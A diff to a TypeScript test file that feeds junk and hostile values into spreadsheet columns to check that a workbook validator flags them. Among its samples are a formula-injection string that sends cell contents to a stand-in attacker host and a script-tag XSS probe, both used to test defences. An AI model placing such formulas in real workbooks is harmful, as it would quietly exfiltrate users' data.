@@ -29,7 +29,7 @@ const FORMULA = '=IMPORTDATA("https://attacker.example/?"&A1)';
 /** Hostile text any column may receive; in a typed column it is a bad value. */
 const HOSTILE: readonly Junk[] = [
   { text: FORMULA }, { text: '+44 7700 900123' }, { text: '-' }, { text: '@reception' }, { text: LONG }, { text: '<script>alert(1)</script>' },
-  { text: 'lots' }, { text: '11/30/2026 14:05' }, { text: 'last Tuesday' }, { text: '1000-01-01' }, { text: "'quoted" },
+  { text: 'lots' }, { text: '11/30/2026 14:05' }, { text: 'last Tuesday' }, { text: '1000-01-01' }, { text: "'quoted" }, { text: '' },
 ];
 
 /** Values that are bad for a column of each type (besides the hostile text). */
@@ -43,19 +43,24 @@ function badFor(col: ColumnDef): readonly Junk[] {
     case 'enum': return [{ text: `${col.values![0]}x` }, { text: 'Urgentt' }];
     case 'yesno': return [{ text: 'maybe' }];
     case 'email': return [{ text: 'jo.harris@' }];
-    case 'id':
-    case 'ref': return [{ date: [2026, 8, 1] }];
+    case 'id': return [{ date: [2026, 8, 1] }];
+    case 'ref': return [{ date: [2026, 8, 1] }, { text: 'NOSUCH' }];
+    case 'refs': return [{ text: 'NOSUCH' }];
+    case 'hours': return [{ text: 'Mon-Fry 08:00-18:00' }, { text: 'Mon-Fri 25:00-26:00' }, { text: 'Weekdays, roughly' }];
     default: return col.key === 'timeZone' ? [{ text: 'Europe/Londn' }, { text: 'Mars/Olympus' }] : [];
   }
 }
 
 /** Column types whose every bad value is a problem Check workbook must name; text and lists take anything. */
-const CHECKED = new Set(['date', 'datetime', 'number', 'integer', 'percent', 'enum', 'yesno', 'email', 'id', 'ref']);
+const CHECKED = new Set(['date', 'datetime', 'number', 'integer', 'percent', 'enum', 'yesno', 'email', 'id', 'ref', 'refs', 'hours']);
 const isChecked = (col: ColumnDef, junk: Junk): boolean => {
+  // A blank is a problem only where a value is required.
+  if ('text' in junk && junk.text === '') return !!col.required;
   if (col.key === 'timeZone') return 'text' in junk && junk.text.trim() !== '' && junk.text !== '-' ? !/^(UTC|GMT)$/.test(junk.text) : false;
   if (!CHECKED.has(col.type)) return false;
-  // Text in a code column is a code like any other.
-  if ((col.type === 'id' || col.type === 'ref') && 'text' in junk) return false;
+  // Text in a code column is a code like any other, unless it names nothing (a reference to no row).
+  if (col.type === 'id' && 'text' in junk) return false;
+  // Text in a reference or hours column that names no row, calendar or hours is as bad as a misspelt choice.
   return true;
 };
 
